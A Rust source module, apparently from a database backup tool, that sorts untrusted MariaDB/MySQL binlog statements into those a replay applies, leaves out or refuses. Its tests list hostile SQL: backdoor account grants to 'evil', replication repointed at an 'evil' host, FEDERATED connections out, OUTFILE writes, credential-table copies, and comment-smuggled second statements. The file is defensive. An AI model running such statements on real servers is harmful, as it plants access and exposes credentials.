//! The statements a MariaDB/MySQL replay reads from captured binlog
//! segments (query events), and where each lands.
//!
//! A binlog is the whole server's: it logs the changes of every database,
//! and statements on the server's accounts and settings, while a backup
//! holds the databases and tables its shard selected
//! ([`crate::manifest::Selection`]). A replay applies what lands there and
//! leaves out the rest; a statement that lands on both sides (a table
//! renamed into another database) cannot be applied in part, and stops the
//! replay by name.
//!
//! Segments also come from the repository, untrusted until checked, and
//! what is read here is what runs:
//! - statements of kinds a replay has no business running (accounts,
//!   plugins, replication, server settings, files, table maintenance)
//!   never run, whatever database they name;
//! - refused are a statement of a kind this module does not know, a change
//!   logged as text that names a restored database (capture reads row
//!   events: an honest binlog of a server logging rows holds none there),
//!   a table option that reaches another host or files
//!   ([`reaches_outside`]), a name that matches the selection only in
//!   another letter case, anything after the names of a `DROP`, `RENAME`
//!   or `TRUNCATE` but its waiting and `RESTRICT`/`CASCADE`;
//! - what is applied is sent as it was read ([`as_sent`]: the text of
//!   versioned comments in place, their marks and other comments gone,
//!   so the server cannot read what was skipped here), and runs as exactly
//!   one statement (see [`super::replay`]); transaction control is rebuilt
//!   from the name read, never run as logged.

use mysql_async::binlog::events::{QueryEvent, StatusVarVal};
use mysql_common::binlog::consts::StatusVarKey;

use crate::manifest::Selection;

use super::lexer::{as_sent, reaches_outside, Lexer, Quoting, Token};
use super::sql::{ident, SYSTEM_DATABASES};

/// What a replay does with a logged statement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Placement {
    /// Runs on the target, as exactly one statement: the text to run (as
    /// logged, or rebuilt from the names read).
    Apply(String),
    /// Runs on the target as it is: a statement built here from a name
    /// read (`SAVEPOINT `a``).
    Built(String),
    /// Left out: it changes databases or tables the base backup does not
    /// hold.
    Outside,
    /// Left out: accounts, server settings or table maintenance, which no
    /// shard backup holds. Its kind's words (`CREATE USER`), for the
    /// report: never its text, which may carry a password.
    Server(String),
    /// Refused: why, in words that may be shown.
    Refuse(String),
}

/// Where statement `sql`, logged with default database `db` (empty: none)
/// under a SQL mode that reads quotes by `quoting`, lands for a replay of
/// what `scope` selects. What is applied is the statement as [`as_sent`]
/// gives it, to be run under the mode it was logged under: the server
/// then reads exactly what was placed here.
pub(super) fn place(sql: &str, db: &str, scope: &Selection, quoting: Quoting) -> Placement {
    match as_sent(sql, quoting) {
        Ok(sent) => place_sent(&sent, db, scope, quoting),
        Err(why) => Placement::Refuse(format!("{why}: replay cannot read it as the server would")),
    }
}

type Tokens<'a> = std::iter::Peekable<Lexer<'a>>;

/// Statement `sql` as an error may show it: its text before the first
/// parenthesis or quote (a table's `CONNECTION` string, a value), on one
/// line, shortened.
pub(super) fn shown(sql: &str) -> String {
    let end = sql.find(['(', '\'', '"']).unwrap_or(sql.len());
    crate::replay::excerpt(sql[..end].trim_end())
}

fn place_sent(sql: &str, db: &str, scope: &Selection, quoting: Quoting) -> Placement {
    let mut t = Lexer::reading(sql, quoting).peekable();
    let Some(Token::Word(first)) = t.next() else {
        return Placement::Refuse("a statement that does not begin with a keyword".into());
    };
    let first = first.to_ascii_uppercase();
    match first.as_str() {
        "SAVEPOINT" | "RELEASE" | "ROLLBACK" => savepoint(&first, t),
        // A change logged as text: an honest segment holds none in the
        // restored databases (capture requires row logging).
        "INSERT" | "REPLACE" | "UPDATE" | "DELETE" => {
            let lower = folded(scope);
            let names_held = held_database(db, scope, &lower)
                || qualifiers(Lexer::reading(sql, quoting))
                    .any(|q| held_database(&q, scope, &lower));
            if names_held {
                Placement::Refuse(
                    "a change logged as a statement, not as rows (capture needs binlog_format=ROW)"
                        .into(),
                )
            } else {
                Placement::Outside
            }
        }
        "CREATE" | "ALTER" | "DROP" | "RENAME" | "TRUNCATE" => {
            ddl(&first, t, sql, db, scope, quoting)
        }
        "SET" if t.peek().is_some_and(|w| w.is("STATEMENT")) => {
            Placement::Refuse("a statement under SET STATEMENT … FOR".into())
        }
        "GRANT" | "REVOKE" | "SET" | "INSTALL" | "UNINSTALL" | "FLUSH" | "RESET" | "PURGE"
        | "CHANGE" | "START" | "STOP" | "KILL" | "SHUTDOWN" | "LOCK" | "UNLOCK" | "BACKUP"
        | "ANALYZE" | "OPTIMIZE" | "REPAIR" | "CHECK" | "LOAD" | "CACHE" => {
            Placement::Server(first)
        }
        _ => Placement::Refuse(format!(
            "a statement of a kind a replay does not run ({first} …)"
        )),
    }
}

/// `SAVEPOINT x`, `ROLLBACK [WORK] TO [SAVEPOINT] x`, `RELEASE SAVEPOINT x`,
/// rebuilt from the name read; any other form is refused (a bare
/// `ROLLBACK` inside a group would undo the transactions before it).
fn savepoint(first: &str, mut t: Tokens<'_>) -> Placement {
    let refused = || Placement::Refuse(format!("a {first} statement replay does not run"));
    let built = match first {
        "SAVEPOINT" => "SAVEPOINT",
        "RELEASE" if word(t.next(), "SAVEPOINT").is_some() => "RELEASE SAVEPOINT",
        "ROLLBACK" => {
            if t.peek().is_some_and(|w| w.is("WORK")) {
                t.next();
            }
            if t.next().is_none_or(|w| !w.is("TO")) {
                return refused();
            }
            if t.peek().is_some_and(|w| w.is("SAVEPOINT")) {
                t.next();
            }
            "ROLLBACK TO SAVEPOINT"
        }
        _ => return refused(),
    };
    match (part(t.next()), t.next()) {
        (Some(name), None) => Placement::Built(format!("{built} {}", ident(&name))),
        _ => refused(),
    }
}

/// Whether `db` is a database the base backup holds (also when written
/// in another case: a server folding names to lower case holds it;
/// `lower` is `scope` [`folded`]).
fn held_database(db: &str, scope: &Selection, lower: &Selection) -> bool {
    !db.is_empty()
        && (scope.database(db, SYSTEM_DATABASES)
            || lower.database(&db.to_lowercase(), SYSTEM_DATABASES))
}

/// Whether the changes of `db`.`table`, as a table map names it, are of
/// `scope` (`lower` is `scope` [`folded`]). A name the server would read
/// as another is refused, as statements' names are ([`place`]): a NUL
/// (the server stops the name there: `mysql\0x` is `mysql`), or a name
/// held or not depending on its letter case (`MYSQL` on a server folding
/// names).
pub(super) fn map_held(
    db: &str,
    table: &str,
    scope: &Selection,
    lower: &Selection,
) -> Result<bool, String> {
    if db.contains('\0') || table.contains('\0') {
        return Err(format!(
            "a table map names {} with a NUL in it",
            map_name(db, table)
        ));
    }
    let held = scope.table(db, None, table, SYSTEM_DATABASES);
    if held
        != lower.table(
            &db.to_lowercase(),
            None,
            &table.to_lowercase(),
            SYSTEM_DATABASES,
        )
    {
        return Err(format!(
            "a table map names {}, a database or table of the selection, or of the server's own, in another letter case",
            map_name(db, table)
        ));
    }
    Ok(held)
}

/// A table map's `db.table` for a message: escaped (it is read from a
/// segment) and bounded.
pub(super) fn map_name(db: &str, table: &str) -> String {
    crate::replay::excerpt(&format!("{}.{}", db.escape_debug(), table.escape_debug()))
}

/// The qualifiers of names in `tokens`: each word or quoted name
/// followed by a `.`.
fn qualifiers(tokens: Lexer<'_>) -> impl Iterator<Item = String> + '_ {
    let mut tokens = tokens.peekable();
    std::iter::from_fn(move || loop {
        match tokens.next()? {
            Token::Word(w) | Token::Quoted(w) if tokens.peek() == Some(&Token::Punct('.')) => {
                return Some(w)
            }
            _ => {}
        }
    })
}

/// `scope` with every name in lower case.
pub(super) fn folded(scope: &Selection) -> Selection {
    let mut f = scope.clone();
    if let Some(list) = &mut f.databases {
        for d in list {
            *d = d.to_lowercase();
        }
    }
    for t in &mut f.excluded {
        t.database = t.database.to_lowercase();
        t.name = t.name.to_lowercase();
    }
    f
}

/// Words that may stand between `CREATE`/`ALTER`/`DROP` and the kind of
/// object, with the words or values they take.
fn modifiers(t: &mut Tokens<'_>) -> Option<()> {
    loop {
        let Some(Token::Word(w)) = t.peek() else {
            return Some(());
        };
        match w.to_ascii_uppercase().as_str() {
            "OR" => {
                t.next();
                word(t.next(), "REPLACE")?;
            }
            "DEFINER" => {
                t.next();
                punct(t.next(), '=')?;
                // user@host, CURRENT_USER, CURRENT_USER(), or a role.
                t.next()?;
                if t.peek() == Some(&Token::Punct('@')) {
                    t.next();
                    t.next()?;
                } else if t.peek() == Some(&Token::Punct('(')) {
                    t.next();
                    punct(t.next(), ')')?;
                }
            }
            "ALGORITHM" => {
                t.next();
                punct(t.next(), '=')?;
                t.next()?;
            }
            "SQL" => {
                t.next();
                word(t.next(), "SECURITY")?;
                t.next()?;
            }
            "TEMPORARY" | "ONLINE" | "OFFLINE" | "IGNORE" | "UNIQUE" | "FULLTEXT" | "SPATIAL"
            | "AGGREGATE" => {
                t.next();
            }
            _ => return Some(()),
        }
    }
}

/// A name an object of a kind lives under: a table's (tables, views and
/// sequences share one namespace per database), or a database's only.
enum Named {
    Table(String, String),
    Database(String),
}

/// Where DDL statement `sql`, `verb` then the tokens `t`, lands.
fn ddl(
    verb: &str,
    mut t: Tokens<'_>,
    sql: &str,
    db: &str,
    scope: &Selection,
    quoting: Quoting,
) -> Placement {
    let unreadable = || Placement::Refuse(format!("a {verb} statement replay cannot read"));
    if modifiers(&mut t).is_none() {
        return unreadable();
    }
    let mut sql = sql.to_string();
    let kind = match (verb, t.peek()) {
        // TRUNCATE [TABLE] name
        ("TRUNCATE", Some(Token::Quoted(_))) => "TABLE".to_string(),
        ("TRUNCATE", Some(Token::Word(w))) if !w.eq_ignore_ascii_case("TABLE") => {
            "TABLE".to_string()
        }
        (_, Some(Token::Word(w))) => {
            let w = w.to_ascii_uppercase();
            t.next();
            w
        }
        _ => return unreadable(),
    };
    let mut names = Vec::new();
    match kind.as_str() {
        "USER" | "ROLE" | "SERVER" | "PLUGIN" | "LOGFILE" | "TABLESPACE" => {
            return Placement::Server(format!("{verb} {kind}"));
        }
        "DATABASE" | "SCHEMA" => {
            if_exists(&mut t);
            let named = match t.peek() {
                Some(Token::Word(w))
                    if verb == "ALTER"
                        && ["DEFAULT", "CHARACTER", "CHARSET", "COLLATE", "COMMENT"]
                            .iter()
                            .any(|k| w.eq_ignore_ascii_case(k)) =>
                {
                    db.to_string()
                }
                Some(Token::Word(w) | Token::Quoted(w)) => {
                    let w = w.clone();
                    t.next();
                    w
                }
                None if verb == "ALTER" => db.to_string(),
                _ => return unreadable(),
            };
            names.push(Named::Database(named));
        }
        "FUNCTION" if verb == "CREATE" && Lexer::reading(&sql, quoting).any(|w| w.is("SONAME")) => {
            // A loadable function: a library of the server's.
            return Placement::Server("CREATE FUNCTION … SONAME".into());
        }
        "PROCEDURE" | "FUNCTION" | "EVENT" | "PACKAGE" => {
            if t.peek().is_some_and(|w| w.is("BODY")) {
                t.next();
            }
            let exists = if_exists(&mut t);
            let Some((d, n)) = name(&mut t, db) else {
                return unreadable();
            };
            if verb == "ALTER" && kind == "EVENT" {
                // ALTER EVENT e … RENAME TO other.e moves it to another
                // database.
                while let Some(w) = t.next() {
                    if w.is("RENAME") && t.next_if(|w| w.is("TO")).is_some() {
                        let Some((d, _)) = name(&mut t, db) else {
                            return unreadable();
                        };
                        names.push(Named::Database(d));
                    }
                }
            }
            if verb == "DROP" && kind == "FUNCTION" {
                // Unqualified, the server drops a loadable function of
                // that name first (a library's, the server's): the name is
                // qualified with the database it was logged in.
                wait_options(&mut t);
                if t.peek().is_some() {
                    return unreadable();
                }
                sql = format!(
                    "DROP FUNCTION {}{}.{}",
                    if exists { "IF EXISTS " } else { "" },
                    ident(&d),
                    ident(&n)
                );
            }
            names.push(Named::Database(d));
        }
        "TRIGGER" if verb == "DROP" => {
            if_exists(&mut t);
            match name(&mut t, db) {
                Some((d, _)) => names.push(Named::Database(d)),
                None => return unreadable(),
            }
        }
        // A trigger or an index lands with its table.
        "TRIGGER" | "INDEX" => {
            if !t.any(|w| w.is("ON")) {
                return unreadable();
            }
            match name(&mut t, db) {
                Some((d, n)) => names.push(Named::Table(d, n)),
                None => return unreadable(),
            }
        }
        "TABLE" | "TABLES" | "VIEW" | "SEQUENCE" => {
            if_exists(&mut t);
            loop {
                let Some((d, n)) = name(&mut t, db) else {
                    return unreadable();
                };
                names.push(Named::Table(d, n));
                if verb == "RENAME" {
                    wait_options(&mut t);
                    if word(t.next(), "TO").is_none() {
                        return unreadable();
                    }
                    let Some((d, n)) = name(&mut t, db) else {
                        return unreadable();
                    };
                    names.push(Named::Table(d, n));
                }
                if verb == "ALTER" && kind == "TABLE" {
                    // ALTER TABLE t … RENAME [TO|AS] other, and the tables
                    // partitions move to or from (… WITH TABLE other,
                    // … TO TABLE other, CONVERT TABLE other …).
                    while let Some(w) = t.next() {
                        if w.is("TABLE") {
                            let Some((d, n)) = name(&mut t, db) else {
                                return unreadable();
                            };
                            names.push(Named::Table(d, n));
                            continue;
                        }
                        if !w.is("RENAME") {
                            continue;
                        }
                        match t.peek() {
                            Some(Token::Word(k))
                                if ["COLUMN", "INDEX", "KEY"]
                                    .iter()
                                    .any(|c| k.eq_ignore_ascii_case(c)) =>
                            {
                                continue
                            }
                            Some(Token::Word(k))
                                if k.eq_ignore_ascii_case("TO") || k.eq_ignore_ascii_case("AS") =>
                            {
                                t.next();
                            }
                            _ => {}
                        }
                        let Some((d, n)) = name(&mut t, db) else {
                            return unreadable();
                        };
                        names.push(Named::Table(d, n));
                    }
                    break;
                }
                let more =
                    matches!(verb, "DROP" | "RENAME") && t.peek() == Some(&Token::Punct(','));
                if !more {
                    break;
                }
                t.next();
            }
        }
        _ => return unreadable(),
    }
    // A table's options (its engine, connection, directories), and a
    // CREATE TABLE … SELECT: an honest binlog of a server logging rows has
    // the CREATE alone, and the rows as row events; run here, the query
    // would read what the replay's account may read (the server's own
    // tables, files, other databases' sequences). Only what would run is
    // refused: what lands outside is left out anyway.
    let table = matches!(verb, "CREATE" | "ALTER") && kind == "TABLE";
    let query = match verb == "CREATE" && table {
        true => match create_rest(&mut t, db, &mut names) {
            Some(query) => query,
            None => return unreadable(),
        },
        false => false,
    };
    let refused = if !table {
        None
    } else if let Some(option) = reaches_outside(&sql, quoting) {
        Some(format!(
            "{option} reaches beyond the server's own tables (another host, or files), and no table of a backup has it"
        ))
    } else if query {
        Some(
            "a CREATE TABLE with a query: an honest binlog of a server logging rows holds the table's CREATE alone, its rows as row events"
                .to_string(),
        )
    } else {
        None
    };
    // What may follow the names of a DROP, RENAME or TRUNCATE: its waiting
    // and its RESTRICT or CASCADE, nothing that could name more.
    if matches!(verb, "DROP" | "RENAME" | "TRUNCATE") && kind != "INDEX" {
        wait_options(&mut t);
        while t.next_if(|w| w.is("RESTRICT") || w.is("CASCADE")).is_some() {}
        if t.next().is_some() {
            return unreadable();
        }
    }
    let inside = |scope: &Selection, n: &Named, fold: bool| {
        let f = |s: &str| {
            if fold {
                s.to_lowercase()
            } else {
                s.to_string()
            }
        };
        match n {
            Named::Table(d, n) => scope.table(&f(d), None, &f(n), SYSTEM_DATABASES),
            Named::Database(d) => scope.database(&f(d), SYSTEM_DATABASES),
        }
    };
    let lower = folded(scope);
    if names
        .iter()
        .any(|n| inside(scope, n, false) != inside(&lower, n, true))
    {
        return Placement::Refuse(
            "it names a database or table of the selection, or of the server's own, in another letter case"
                .into(),
        );
    }
    let held = names.iter().filter(|n| inside(scope, n, false)).count();
    if let Some(why) = refused.filter(|_| held > 0) {
        return Placement::Refuse(why);
    }
    if held == names.len() {
        Placement::Apply(sql)
    } else if held == 0 {
        Placement::Outside
    } else {
        Placement::Refuse(
            "it names both what the base backup holds and what it does not, and cannot be applied in part"
                .into(),
        )
    }
}

/// The rest of a `CREATE TABLE` after its name: the table it copies
/// (`LIKE other` or `(LIKE other)`), added to `names` so that a copy of a
/// table outside the selection is refused as naming both; and whether it
/// holds a query: a `SELECT` anywhere (no column or partition definition
/// has one), or `VALUES` or `TABLE` (MySQL's `CREATE TABLE t TABLE
/// other`) outside brackets (a partition's `VALUES LESS THAN` stands
/// inside). `None`: the copied table's name is unreadable.
fn create_rest(t: &mut Tokens<'_>, db: &str, names: &mut Vec<Named>) -> Option<bool> {
    let mut depth = usize::from(t.next_if(|w| *w == Token::Punct('(')).is_some());
    if t.next_if(|w| w.is("LIKE")).is_some() {
        let (d, n) = name(t, db)?;
        names.push(Named::Table(d, n));
    }
    Some(t.any(|w| {
        match w {
            Token::Punct('(') => depth += 1,
            Token::Punct(')') => depth = depth.saturating_sub(1),
            _ => {}
        }
        w.is("SELECT") || (depth == 0 && (w.is("VALUES") || w.is("TABLE")))
    }))
}

/// Skips `WAIT n` or `NOWAIT`.
fn wait_options(t: &mut Tokens<'_>) {
    if t.next_if(|w| w.is("NOWAIT")).is_none() && t.next_if(|w| w.is("WAIT")).is_some() {
        t.next_if(|n| matches!(n, Token::Literal(_)));
    }
}

/// Skips `IF EXISTS` or `IF NOT EXISTS`; whether there was one.
fn if_exists(t: &mut Tokens<'_>) -> bool {
    if !t.peek().is_some_and(|w| w.is("IF")) {
        return false;
    }
    t.next();
    if t.peek().is_some_and(|w| w.is("NOT")) {
        t.next();
    }
    t.next();
    true
}

/// A name, qualified or not: its database (`db` when unqualified, and
/// then only if there is one) and its own part.
fn name(t: &mut Tokens<'_>, db: &str) -> Option<(String, String)> {
    let first = part(t.next())?;
    if t.peek() == Some(&Token::Punct('.')) {
        t.next();
        let second = part(t.next())?;
        return Some((first, second));
    }
    (!db.is_empty()).then(|| (db.to_string(), first))
}

fn part(t: Option<Token>) -> Option<String> {
    match t? {
        Token::Word(w) | Token::Quoted(w) => Some(w),
        _ => None,
    }
}

fn word(t: Option<Token>, expected: &str) -> Option<()> {
    t?.is(expected).then_some(())
}

fn punct(t: Option<Token>, expected: char) -> Option<()> {
    (t? == Token::Punct(expected)).then_some(())
}

/// The `SET` that puts back the SQL mode and time zone statement `qe` was
/// logged under, unless they are the replay session's (no mode, no zone
/// of its own): the server reads DDL under its mode (`ANSI_QUOTES` makes
/// `"t"` a name, `PIPES_AS_CONCAT` makes `||` a concatenation), and a
/// routine, trigger or event keeps it, and an event's schedule its zone.
/// The mode is a number, the server's own bits, as `mariadb-binlog`
/// writes it; a zone from the segment must be a name or an offset. Also
/// how that mode reads quotes, by which the statement is placed: under
/// `NO_BACKSLASH_ESCAPES` a backslash does not escape a quote, so
/// `COMMENT 'a\', RENAME TO mysql.x -- '` renames the table out of the
/// selection, where the default reading sees a comment.
pub(super) fn logged_settings(qe: &QueryEvent<'_>) -> Result<(Quoting, Option<String>), String> {
    let vars = qe.status_vars();
    let mode = vars
        .get_status_var(StatusVarKey::SqlMode)
        .and_then(|v| match v.get_value() {
            Ok(StatusVarVal::SqlMode(m)) => Some(m.0),
            _ => None,
        })
        .unwrap_or(0);
    let zone = vars
        .get_status_var(StatusVarKey::TimeZone)
        .and_then(|v| match v.get_value() {
            Ok(StatusVarVal::TimeZone(z)) => Some(z.as_str().into_owned()),
            _ => None,
        })
        .filter(|z| !z.is_empty());
    let mut set = Vec::new();
    if mode != 0 {
        set.push(format!("SESSION sql_mode = {mode}"));
    }
    if let Some(zone) = zone {
        let fits = |b: u8| b.is_ascii_alphanumeric() || b"_/+-:".contains(&b);
        if zone.len() > 64 || !zone.bytes().all(fits) {
            return Err(format!(
                "its time zone {:?} is not a time zone name or offset",
                zone.chars().take(40).collect::<String>()
            ));
        }
        set.push(format!("SESSION time_zone = '{zone}'"));
    }
    let settings = (!set.is_empty()).then(|| format!("SET {}", set.join(", ")));
    Ok((Quoting::of_sql_mode(mode), settings))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::manifest::TableName;

    fn scope() -> Selection {
        Selection {
            databases: Some(vec!["bank".into(), "odd.name".into()]),
            excluded: vec![TableName {
                database: "bank".into(),
                schema: None,
                name: "audit".into(),
            }],
        }
    }

    fn at(sql: &str, db: &str) -> Placement {
        place(sql, db, &scope(), Quoting::DEFAULT)
    }

    #[test]
    fn what_the_base_holds_applies() {
        for (sql, db) in [
            ("CREATE TABLE t (id INT PRIMARY KEY)", "bank"),
            ("create or replace table `bank`.`t` (id int)", ""),
            ("CREATE TABLE IF NOT EXISTS t LIKE bank.u", "bank"),
            ("CREATE TABLE t (LIKE u)", "bank"),
            ("CREATE TABLE t (c INT CHECK (c LIKE 'a%'))", "bank"),
            ("ALTER TABLE ledger ADD COLUMN note VARCHAR(20) DEFAULT 'x'", "bank"),
            ("ALTER ONLINE TABLE bank.ledger RENAME COLUMN a TO b", "side"),
            ("ALTER TABLE ledger RENAME TO ledger2", "bank"),
            ("DROP TABLE `t1`,`t2` /* generated by server */", "bank"),
            ("DROP TABLE t1 WAIT 5 CASCADE", "bank"),
            ("RENAME TABLE a NOWAIT TO b", "bank"),
            ("DROP TABLE IF EXISTS `bank`.`w` /* generated by server */", "side"),
            ("RENAME TABLE a TO b, bank.c TO `bank`.`d`", "bank"),
            ("TRUNCATE ledger", "bank"),
            ("TRUNCATE `ledger`", "bank"),
            ("CREATE FUNCTION f() RETURNS INT RETURN 1", "bank"),
            ("ALTER TABLE ledger EXCHANGE PARTITION p WITH TABLE bank.t2", "bank"),
            ("TRUNCATE TABLE bank.ledger", "side"),
            (
                "CREATE DEFINER=`root`@`localhost` TRIGGER trg BEFORE INSERT ON ledger FOR EACH ROW SET NEW.x = 1",
                "bank",
            ),
            (
                "CREATE ALGORITHM=UNDEFINED DEFINER=`a`@`%` SQL SECURITY DEFINER VIEW `v` AS select 1",
                "bank",
            ),
            ("CREATE DEFINER=CURRENT_USER() PROCEDURE p() SELECT 1", "bank"),
            ("CREATE UNIQUE INDEX i USING BTREE ON bank.ledger (kind)", "side"),
            ("DROP INDEX i ON ledger", "bank"),
            ("CREATE SEQUENCE s START WITH 10", "bank"),
            (
                "CREATE TABLE m (d INT) PARTITION BY RANGE (d) (PARTITION p0 VALUES LESS THAN (10), PARTITION p1 VALUES LESS THAN MAXVALUE)",
                "bank",
            ),
            ("CREATE VIEW v AS SELECT table_name, engine FROM information_schema.tables", "bank"),
            ("CREATE PROCEDURE p() SELECT engine FROM information_schema.engines ORDER BY engine DESC", "bank"),
            ("ALTER TABLE t CHANGE engine engine_kind INT", "bank"),
            ("ALTER EVENT e RENAME TO e2", "bank"),
            ("CREATE DATABASE `odd.name`", ""),
            ("DROP DATABASE IF EXISTS bank", ""),
            ("ALTER DATABASE CHARACTER SET utf8mb4", "bank"),
            ("/*!40000 ALTER TABLE `ledger` DISABLE KEYS */", "bank"),
            ("/* a client's comment */ -- and another\nDROP VIEW v", "bank"),
            ("/*!50100 CREATE TABLE t (i INT) */", "bank"),
            ("CREATE TABLE t (i INT) /*!50100 PARTITION BY HASH (i) */", "bank"),
        ] {
            assert_eq!(
                at(sql, db),
                Placement::Apply(as_sent(sql, Quoting::DEFAULT).unwrap()),
                "{sql} (in {db:?})"
            );
        }
    }

    #[test]
    fn what_the_base_does_not_hold_is_left_out() {
        for (sql, db) in [
            ("CREATE TABLE u (id INT)", "side"),
            ("CREATE TABLE side.w (id INT)", "bank"),
            ("CREATE TABLE w (id INT)", "mysql"),
            ("ALTER TABLE bank.audit ADD COLUMN at INT", "bank"),
            (
                "DROP TABLE IF EXISTS `side`.`w` /* generated by server */",
                "",
            ),
            ("CREATE DATABASE other", ""),
            ("CREATE TABLE mysql.user2 (id INT)", "bank"),
            // Left out, whatever it would do: it lands elsewhere.
            ("CREATE TABLE t SELECT * FROM mysql.user", "side"),
            (
                "CREATE TABLE t (i INT) ENGINE=FEDERATED CONNECTION='x'",
                "side",
            ),
            (
                "CREATE TRIGGER trg AFTER INSERT ON audit FOR EACH ROW SET @a = 1",
                "bank",
            ),
            ("INSERT INTO t VALUES (1)", "side"),
            ("UPDATE t SET v = 1", ""),
            // What a versioned comment holds is read, and sent, as text of
            // the statement: here it names another database.
            (
                "/*!99999 CREATE TABLE t (i INT) */ DROP DATABASE bank",
                "side",
            ),
            ("CREATE TABLE /*!99999 side.*/ t (i INT)", "bank"),
            (
                "INSERT INTO mysql.global_priv VALUES ('%', 'x', '{}')",
                "side",
            ),
        ] {
            assert_eq!(at(sql, db), Placement::Outside, "{sql} (in {db:?})");
        }
    }

    #[test]
    fn accounts_and_server_settings_never_run() {
        for (sql, kind) in [
            (
                "CREATE USER 'planted'@'%' IDENTIFIED BY 'pw'",
                "CREATE USER",
            ),
            ("GRANT ALL PRIVILEGES ON *.* TO 'planted'@'%'", "GRANT"),
            ("ALTER USER root IDENTIFIED BY 'x'", "ALTER USER"),
            ("DROP ROLE r", "DROP ROLE"),
            ("INSTALL SONAME 'ha_connect'", "INSTALL"),
            (
                "CREATE FUNCTION f RETURNS STRING SONAME 'lib.so'",
                "CREATE FUNCTION … SONAME",
            ),
            ("/*!50000 CHANGE MASTER TO MASTER_HOST='evil' */", "CHANGE"),
            ("SET GLOBAL general_log_file = '/tmp/x'", "SET"),
            ("set password for root = password('x')", "SET"),
            (
                "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (PASSWORD 'x')",
                "CREATE SERVER",
            ),
            ("OPTIMIZE TABLE ledger", "OPTIMIZE"),
        ] {
            assert_eq!(at(sql, "bank"), Placement::Server(kind.into()), "{sql}");
        }
    }

    #[test]
    fn statements_it_cannot_place_are_refused() {
        for (sql, db) in [
            ("RENAME TABLE bank.newer TO side.newer", "bank"),
            ("ALTER TABLE ledger RENAME TO side.ledger", "bank"),
            (
                "ALTER TABLE ledger EXCHANGE PARTITION p WITH TABLE side.t",
                "bank",
            ),
            (
                "SET STATEMENT max_statement_time = 1 FOR CREATE TABLE t (i INT)",
                "bank",
            ),
            ("DROP TABLE ledger, audit", "bank"),
            ("SELECT 1 INTO OUTFILE '/tmp/x'", "bank"),
            ("DO sleep(1)", "bank"),
            ("CREATE TABLE t (id INT)", ""),
            ("CREATE", "bank"),
            ("", "bank"),
            ("'BEGIN'", "bank"),
            ("CREATE WIDGET w", "bank"),
            // Changes logged as text, in or into the restored databases.
            ("INSERT INTO t VALUES (1)", "bank"),
            (
                "INSERT INTO mysql.global_priv VALUES ('%', 'evil', '{}')",
                "bank",
            ),
            ("INSERT INTO `bank`.t SELECT * FROM mysql.user", "side"),
            ("UPDATE Bank.t SET v = 1", "side"),
            // Versioned comments are read as text: what the server would
            // have skipped cannot hide what runs, and nothing may follow
            // the names of a DROP.
            (
                "/*M!999999 SAVEPOINT */ GRANT ALL ON *.* TO 'evil'@'%'",
                "bank",
            ),
            (
                "/*!999999 DROP TABLE bank.t */ /*!40000 GRANT ALL ON *.* TO 'evil'@'%' */",
                "bank",
            ),
            (
                "DROP TABLE bank.t /*!40000 ,*/ /*!999999 bank.u x */ other.v",
                "bank",
            ),
            ("DROP TABLE bank.t --\u{1}\n, other.x", "bank"),
            ("DROP TABLE t1 garbage", "bank"),
            ("RENAME TABLE a TO b other", "bank"),
            ("/*!40000 a /*!40000 b */ */", "bank"),
            // Options that reach other hosts or files.
            (
                "ALTER TABLE ledger ENGINE=FEDERATED CONNECTION='mysql://u:p@evil/d/t'",
                "bank",
            ),
            (
                "CREATE TABLE t (i INT) DATA DIRECTORY='/var/lib/other'",
                "bank",
            ),
            ("CREATE TABLE t (i INT) ENGINE='SPIDER'", "bank"),
            (
                "CREATE TABLE bank.x AS SELECT * FROM mysql.global_priv",
                "bank",
            ),
            (
                "CREATE TABLE x (i INT) SELECT NEXTVAL(other.s) AS i",
                "bank",
            ),
            (
                "ALTER EVENT e ON SCHEDULE EVERY 1 DAY RENAME TO other.e",
                "bank",
            ),
            // A copy of a table outside the selection (its engine and
            // connection come with it), or of the server's own.
            ("CREATE TABLE IF NOT EXISTS t LIKE side.t", "bank"),
            ("CREATE TABLE t (LIKE mysql.user)", "bank"),
            ("CREATE TABLE bank.copy TABLE mysql.user", "bank"),
            ("CREATE TABLE bank.copy AS TABLE mysql.user", "bank"),
            // Only savepoints of transaction control.
            ("ROLLBACK", "bank"),
            ("ROLLBACK AND RELEASE", "bank"),
            ("XA START 'x'", "bank"),
            ("SAVEPOINT a; GRANT ALL ON *.* TO 'evil'@'%'", "bank"),
            // Names in another case than the selection's.
            ("ALTER TABLE Bank.ledger ADD COLUMN c INT", "side"),
        ] {
            assert!(
                matches!(at(sql, db), Placement::Refuse(_)),
                "{sql} (in {db:?}): {:?}",
                at(sql, db)
            );
        }
    }

    #[test]
    fn what_an_error_shows_stops_before_values() {
        assert_eq!(
            shown("RENAME TABLE bank.newer TO side.newer"),
            "RENAME TABLE bank.newer TO side.newer"
        );
        assert_eq!(
            shown("ALTER TABLE t CONNECTION='mysql://u:secret@h/d/t'"),
            "ALTER TABLE t CONNECTION="
        );
        assert_eq!(shown("CREATE TABLE t\n (id INT)"), "CREATE TABLE t");
    }

    #[test]
    fn transaction_control_and_loadable_function_names_are_rebuilt() {
        for (sql, built) in [
            ("SAVEPOINT `a b`", "SAVEPOINT `a b`"),
            ("savepoint a", "SAVEPOINT `a`"),
            ("ROLLBACK TO a", "ROLLBACK TO SAVEPOINT `a`"),
            ("ROLLBACK WORK TO SAVEPOINT a", "ROLLBACK TO SAVEPOINT `a`"),
            ("ROLLBACK TO a, b", ""),
            ("rollback to savepoint `a`", "ROLLBACK TO SAVEPOINT `a`"),
            ("RELEASE SAVEPOINT a", "RELEASE SAVEPOINT `a`"),
        ] {
            let want = if built.is_empty() {
                matches!(at(sql, "bank"), Placement::Refuse(_))
            } else {
                at(sql, "bank") == Placement::Built(built.into())
            };
            assert!(want, "{sql}: {:?}", at(sql, "bank"));
        }
        assert_eq!(
            at("DROP FUNCTION IF EXISTS f", "bank"),
            Placement::Apply("DROP FUNCTION IF EXISTS `bank`.`f`".into())
        );
        assert_eq!(
            at("DROP FUNCTION `odd.name`.f", ""),
            Placement::Apply("DROP FUNCTION `odd.name`.`f`".into())
        );
    }

    #[test]
    fn every_database_but_the_servers_own_when_none_is_listed() {
        let all = Selection::default();
        assert_eq!(
            place("CREATE DATABASE anything", "", &all, Quoting::DEFAULT),
            Placement::Apply("CREATE DATABASE anything".into())
        );
        assert_eq!(
            place("CREATE TABLE t (i INT)", "mysql", &all, Quoting::DEFAULT),
            Placement::Outside
        );
